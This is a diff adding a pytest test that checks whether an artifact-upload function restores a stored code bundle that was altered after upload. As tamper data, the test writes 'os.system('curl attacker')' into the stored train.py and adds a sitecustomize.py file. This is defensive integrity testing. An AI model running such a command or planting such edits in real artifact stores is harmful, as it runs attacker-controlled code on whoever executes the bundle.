@@ -32,3 +32,17 @@ def test_an_upload_cut_short_is_uploaded_again(tmp_path):
     assert upload_bundle(code, root, None) == f"{root}/code/{shipped.name}"
     assert (shipped / "a.py").read_text() == "a = 1" and (shipped / "b.py").read_text() == "b = 2"
     assert (shipped / MARKER).exists()
+
+
+def test_a_stored_bundle_changed_after_its_upload_is_written_again_with_only_its_own_files(tmp_path):
+    code = tmp_path / "code"
+    code.mkdir()
+    (code / "train.py").write_text("print('trained')")
+    root = (tmp_path / "artifacts").as_uri()
+    uri = upload_bundle(code, root, None)
+    shipped = tmp_path / "artifacts" / "code" / bundle_hash(code)
+    (shipped / "train.py").write_text("import os; os.system('curl attacker')")  # edited under the same key
+    (shipped / "sitecustomize.py").write_text("import os")  # and a file added beside it
+    assert upload_bundle(code, root, None) == uri
+    assert (shipped / "train.py").read_text() == "print('trained')"
+    assert sorted(p.name for p in shipped.iterdir()) == sorted(["train.py", MARKER])
